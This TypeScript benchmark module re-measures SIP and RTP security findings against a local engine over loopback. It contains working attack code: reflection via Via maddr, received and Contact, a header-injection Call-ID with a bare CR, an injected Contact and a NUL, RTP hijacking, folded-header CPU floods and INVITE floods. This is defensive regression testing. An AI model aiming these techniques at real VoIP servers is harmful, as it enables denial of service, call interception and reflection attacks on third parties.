// SIP and RTP steps of bench/hostile.ts: each re-measures one figure of issue 13 against an engine
// child over loopback and returns table rows (finding, figure, value).
import dgram from 'node:dgram';
import { existsSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import path from 'node:path';
import type { EngineChild } from '../../test/helpers/engine-child.js';
import { SipPeer, ThirdParties, bindUdp, responseControlProblem, sipCall, sipCallWorks, sipOptions } from '../../test/helpers/fuzz-sip.js';
import { THIRD_PARTY, sdpOffer } from '../../test/helpers/fuzz-gen.js';
import { percentile } from '../table.js';

export type Row = [finding: string, figure: string, value: string];

const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));
let n = 0;
const uniq = (p: string) => `${p}${process.pid}x${++n}x${Math.random().toString(36).slice(2, 8)}`;

/** A request from `from` with full control over the Via (the attacker's tool). */
function rawRequest(method: string, port: number, o: { via: string; from: { address: string; port: number }; contact?: string; callId?: string; body?: string; extra?: string[] }): string {
  const body = o.body ?? '';
  return [
    `${method} sip:callchart@127.0.0.1:${port} SIP/2.0`,
    `Via: ${o.via}`,
    'Max-Forwards: 70',
    `From: <sip:attacker@${o.from.address}>;tag=${uniq('t')}`,
    `To: <sip:callchart@127.0.0.1:${port}>`,
    `Call-ID: ${o.callId ?? uniq('c')}`,
    `CSeq: 1 ${method}`,
    `Contact: <sip:attacker@${o.contact ?? `${o.from.address}:${o.from.port}`}>`,
    ...(body ? ['Content-Type: application/sdp'] : []),
    ...(o.extra ?? []),
    `Content-Length: ${Buffer.byteLength(body, 'latin1')}`,
    '',
    body,
  ].join('\r\n');
}

// ---- finding 2: reflection ---------------------------------------------------------------------

export interface Reflection {
  third: ThirdParties;
  attackerBytes: number;
  startedAt: number;
  /** Rows once enough time has passed for the BYE retransmissions. */
  finish(): Row[];
}

/**
 * One INVITE whose Via carries maddr (200s), whose Contact names a second address (BYE after the
 * no-ACK timeout) and whose SDP c= a third (RTCP); one OPTIONS with a client-supplied `received`.
 * The third parties never send anything. Bytes are counted until finish().
 */
export async function startReflection(child: EngineChild): Promise<Reflection> {
  const third = await ThirdParties.open();
  const attacker = await SipPeer.open('127.0.0.1');
  const me = attacker.address;
  const invite = rawRequest('INVITE', child.sipPort, {
    via: `SIP/2.0/UDP ${me.address}:${third.port};branch=z9hG4bK${uniq('b')};maddr=${THIRD_PARTY.maddr}`,
    from: me,
    contact: `${THIRD_PARTY.contact}:${third.port}`,
    body: sdpOffer(THIRD_PARTY.media, third.rtpPort),
  });
  const options = rawRequest('OPTIONS', child.sipPort, {
    via: `SIP/2.0/UDP ${me.address}:${third.port};branch=z9hG4bK${uniq('b')};received=${THIRD_PARTY.received}`,
    from: me,
  });
  attacker.send(invite, child.sipPort);
  attacker.send(options, child.sipPort);
  const attackerBytes = Buffer.byteLength(invite, 'latin1') + Buffer.byteLength(options, 'latin1');
  const startedAt = Date.now();
  return {
    third,
    attackerBytes,
    startedAt,
    finish() {
      const at = (addr: string, port: number) => third.bytes.get(`${addr}:${port}`) ?? 0;
      const pk = (addr: string, port: number) => third.packets.get(`${addr}:${port}`) ?? 0;
      const rtcp = at(THIRD_PARTY.media, third.rtpPort + 1) + at(THIRD_PARTY.media, third.rtpPort);
      const rows: Row[] = [
        ['2 SIP reflection', 'bytes to third parties per attacker byte (all vectors)', `${(third.total() / attackerBytes).toFixed(1)}x (${third.total()} B for ${attackerBytes} B, ${Math.round((Date.now() - startedAt) / 1000)} s)`],
        ['2 SIP reflection', 'Via maddr: responses to the maddr address', `${pk(THIRD_PARTY.maddr, third.port)} datagrams, ${at(THIRD_PARTY.maddr, third.port)} B`],
        ['2 SIP reflection', 'client-supplied received: responses to it', `${pk(THIRD_PARTY.received, third.port)} datagrams, ${at(THIRD_PARTY.received, third.port)} B`],
        ['2 SIP reflection', 'RTCP/RTP to the SDP c= address', `${pk(THIRD_PARTY.media, third.rtpPort + 1) + pk(THIRD_PARTY.media, third.rtpPort)} datagrams, ${rtcp} B`],
        ['2 SIP reflection', 'BYE (and other requests) to the Contact address', `${pk(THIRD_PARTY.contact, third.port)} datagrams, ${at(THIRD_PARTY.contact, third.port)} B`],
      ];
      attacker.close();
      third.close();
      return rows;
    },
  };
}

// ---- finding 4: injection and amplification ----------------------------------------------------

export interface NoAck {
  finish(): Row[];
}

/** One INVITE that is never ACKed: what comes back to its sender (200 and BYE retransmissions). */
export async function startNoAck(child: EngineChild): Promise<NoAck> {
  const peer = await SipPeer.open('127.0.0.1');
  const sock = peer.sock;
  let back = 0;
  sock.on('message', (b) => (back += b.length));
  const me = peer.address;
  const invite = rawRequest('INVITE', child.sipPort, { via: `SIP/2.0/UDP ${me.address}:${me.port};branch=z9hG4bK${uniq('b')};rport`, from: me, body: sdpOffer(me.address, 4000) });
  peer.send(invite, child.sipPort);
  const sent = Buffer.byteLength(invite, 'latin1');
  const t0 = Date.now();
  return {
    finish() {
      peer.close();
      return [['4 amplification', 'never-ACKed INVITE: bytes back per byte sent', `${(back / sent).toFixed(1)}x (${back} B for ${sent} B, ${Math.round((Date.now() - t0) / 1000)} s)`]];
    },
  };
}

async function oneResponse(port: number, text: string | Buffer, timeoutMs = 2000): Promise<Buffer | undefined> {
  const s = await bindUdp('127.0.0.1');
  try {
    const got = new Promise<Buffer>((resolve) => s.once('message', (b) => resolve(b)));
    s.send(typeof text === 'string' ? Buffer.from(text, 'latin1') : text, port, '127.0.0.1');
    return await Promise.race([got, sleep(timeoutMs).then(() => undefined)]);
  } finally {
    s.close();
  }
}

export async function injection(child: EngineChild): Promise<Row[]> {
  const rows: Row[] = [];
  // A bad Max-Forwards makes it a 400; the Call-ID carries a bare CR, an injected header and a NUL.
  const s = await bindUdp('127.0.0.1');
  const me = s.address();
  s.close();
  const bad = rawRequest('OPTIONS', child.sipPort, {
    via: `SIP/2.0/UDP ${me.address}:${me.port};branch=z9hG4bK${uniq('b')};rport`,
    from: me,
    callId: `x${uniq('')}\rContact: <sip:evil@127.0.0.1>\0`,
    extra: ['Max-Forwards: many'],
  }).replace('Max-Forwards: 70\r\n', '');
  const r400 = await oneResponse(child.sipPort, bad);
  const problem = r400 ? responseControlProblem(r400) : undefined;
  rows.push(['4 header injection', '400 echoes a bare CR / NUL from the request', r400 ? (problem ? `yes (${r400.toString('latin1').split('\r\n')[0]}; ${problem.slice(0, 60)})` : `no (${r400.toString('latin1').split('\r\n')[0]})`) : 'no response']);
  const ff = Buffer.concat([
    Buffer.from(rawRequest('OPTIONS', child.sipPort, { via: `SIP/2.0/UDP ${me.address}:${me.port};branch=z9hG4bK${uniq('b')};rport`, from: me, callId: 'CALLIDMARK' }), 'latin1'),
  ]);
  const at = ff.indexOf('CALLIDMARK');
  const req = Buffer.concat([ff.subarray(0, at), Buffer.from('x'), Buffer.alloc(20_000, 0xff), ff.subarray(at + 'CALLIDMARK'.length)]);
  const rff = await oneResponse(child.sipPort, req);
  rows.push(['4 amplification', 'OPTIONS with 20 000 x 0xFF: response bytes / request bytes', rff ? `${(rff.length / req.length).toFixed(2)}x (${rff.length} B for ${req.length} B; ${rff.toString('latin1').split('\r\n')[0]})` : 'no response']);
  return rows;
}

// ---- finding 3: RTP hijack ---------------------------------------------------------------------

function rtpPacket(seq: number, ssrc: number): Buffer {
  const b = Buffer.alloc(12 + 160, 0xff);
  b[0] = 0x80;
  b[1] = 0; // PCMU
  b.writeUInt16BE(seq & 0xffff, 2);
  b.writeUInt32BE((seq * 160) >>> 0, 4);
  b.writeUInt32BE(ssrc >>> 0, 8);
  return b;
}

export async function rtpHijack(child: EngineChild): Promise<Row[]> {
  const callerRtp = await bindUdp('127.0.0.1');
  const stranger = await bindUdp('127.0.0.9');
  let toCaller = 0;
  let toStranger = 0;
  callerRtp.on('message', () => toCaller++);
  stranger.on('message', () => toStranger++);
  try {
    const call = await sipCall(child.sipPort, { rtpPort: callerRtp.address().port });
    if (typeof call === 'string') return [['3 RTP hijack', 'call set-up', `failed: ${call}`]];
    if (!call.media) return [['3 RTP hijack', 'call set-up', 'no SDP answer']];
    const { port, address } = call.media;
    // The stranger sends first, at the port read from the answer (an attacker would scan for it).
    for (let i = 0; i < 10; i++) {
      stranger.send(rtpPacket(1000 + i, 0xbad), port, address === '0.0.0.0' ? '127.0.0.1' : address);
      await sleep(20);
    }
    for (let i = 0; i < 25; i++) {
      callerRtp.send(rtpPacket(i, 0x600d), port, address === '0.0.0.0' ? '127.0.0.1' : address);
      await sleep(20);
    }
    await sleep(400);
    await call.hangup();
    return [
      ['3 RTP hijack', 'a stranger who sends RTP first gets the call audio', toStranger > 0 ? `yes (${toStranger} packets)` : 'no'],
      ['3 RTP hijack', 'the real caller gets audio after sending', toCaller > 0 ? `yes (${toCaller} packets)` : 'no'],
    ];
  } finally {
    callerRtp.close();
    stranger.close();
  }
}

// ---- finding 5: CPU ----------------------------------------------------------------------------

function foldedOptions(port: number, from: { address: string; port: number }, bytes: number, folded = true): string {
  const lines = Math.floor(bytes / 4);
  const header = folded ? `X-Folded: a${'\r\n a'.repeat(lines)}` : `X-Folded: a${' a'.repeat(lines * 2)}`;
  return rawRequest('OPTIONS', port, { via: `SIP/2.0/UDP ${from.address}:${from.port};branch=z9hG4bK${uniq('b')};rport`, from, extra: [header] });
}

/** Parse time of one 60 KB folded header, in this process, with the target tree's own parser. */
export async function parseCost(root: string): Promise<Row[]> {
  // The codec moved to src/sip/codec/ in issue 14; older trees (HOSTILE_ROOT) keep it in src/sip/.
  const file = ['src/sip/codec/message.ts', 'src/sip/message.ts'].map((f) => path.join(root, f)).find((f) => existsSync(f));
  if (!file) throw new Error(`no SIP message codec under ${root}`);
  const mod = (await import(pathToFileURL(file).href)) as { parseMessage(b: Buffer): { ok: boolean } };
  const from = { address: '127.0.0.1', port: 5062 };
  const time = (text: string) => {
    const buf = Buffer.from(text, 'latin1');
    for (let i = 0; i < 3; i++) mod.parseMessage(buf);
    const ms: number[] = [];
    for (let i = 0; i < 15; i++) {
      const t0 = performance.now();
      mod.parseMessage(buf);
      ms.push(performance.now() - t0);
    }
    return percentile(ms, 50);
  };
  const folded = time(foldedOptions(5060, from, 60_000));
  const flat = time(foldedOptions(5060, from, 60_000, false));
  return [['5 CPU', 'parse of a 60 KB folded header (unfolded: same size on one line)', `${folded.toFixed(2)} ms (unfolded ${flat.toFixed(2)} ms)`]];
}

/** 100 folded 60 KB OPTIONS/s from one source for `seconds`, OPTIONS probes from another. */
export async function foldedFlood(child: EngineChild, seconds = 10): Promise<Row[]> {
  const attacker = await bindUdp('127.0.0.1');
  const payload = Buffer.from(foldedOptions(child.sipPort, attacker.address(), 60_000), 'latin1');
  let stop = false;
  const flood = (async () => {
    while (!stop) {
      attacker.send(payload, child.sipPort, '127.0.0.1');
      await sleep(10);
    }
  })();
  const lat: number[] = [];
  let unanswered = 0;
  const probes: Promise<void>[] = [];
  for (let i = 0; i < seconds * 10; i++) {
    probes.push(
      sipOptions(child.sipPort, '127.0.0.7', 2000).then((r) => {
        if (r.status === undefined) unanswered++;
        else lat.push(r.ms);
      }),
    );
    await sleep(100);
  }
  await Promise.all(probes);
  stop = true;
  await flood;
  attacker.close();
  const total = seconds * 10;
  return [['5 CPU', `OPTIONS from another source under 100 folded 60 KB datagrams/s (${seconds} s)`, `p50 ${lat.length ? percentile(lat, 50).toFixed(1) : '-'} ms, unanswered ${((unanswered / total) * 100).toFixed(0)} % (2 s timeout)`]];
}

/** One source sends never-ACKed INVITEs at `cps` for `seconds`; legitimate calls from another. */
export async function inviteFlood(child: EngineChild, cps = 3000, seconds = 20): Promise<Row[]> {
  const sock = dgram.createSocket({ type: 'udp4', sendBufferSize: 4 * 1024 * 1024 });
  await new Promise<void>((r) => sock.bind(0, '127.0.0.1', () => r()));
  sock.on('message', () => {});
  const me = sock.address();
  const tpl = rawRequest('INVITE', child.sipPort, { via: `SIP/2.0/UDP ${me.address}:${me.port};branch=z9hG4bKBRANCHXXXXXX;rport`, from: me, callId: 'CALLIDXXXXXXXX@flood', body: sdpOffer(me.address, 4000) });
  const rssBefore = child.rssKiB() ?? 0;
  let peak = rssBefore;
  const sampler = setInterval(() => (peak = Math.max(peak, child.rssKiB() ?? 0)), 250);
  let sent = 0;
  let stop = false;
  const t0 = performance.now();
  const flood = (async () => {
    while (!stop) {
      const due = Math.floor(((performance.now() - t0) / 1000) * cps);
      for (; sent < due; sent++) {
        const id = sent.toString(36).padStart(12, '0');
        sock.send(Buffer.from(tpl.replace('BRANCHXXXXXX', id).replace('CALLIDXXXXXXXX', `${id}xx`), 'latin1'), child.sipPort, '127.0.0.1');
      }
      await sleep(5);
    }
  })();
  let ok = 0;
  let tried = 0;
  const calls: Promise<void>[] = [];
  while (performance.now() - t0 < seconds * 1000) {
    tried++;
    calls.push(sipCallWorks(child.sipPort, '127.0.0.7').then((p) => void (p ? undefined : ok++)));
    await sleep(500);
  }
  stop = true;
  await flood;
  await Promise.all(calls);
  clearInterval(sampler);
  sock.close();
  return [
    ['5 flood', `RSS under a never-ACKed INVITE flood, one source, ${cps} cps x ${seconds} s (${sent} INVITEs)`, `${Math.round(rssBefore / 1024)} MB -> peak ${Math.round(peak / 1024)} MB`],
    ['5 flood', 'legitimate calls from a second source during the flood', `${ok}/${tried} completed${child.alive() ? '' : ' (engine died)'}`],
  ];
}
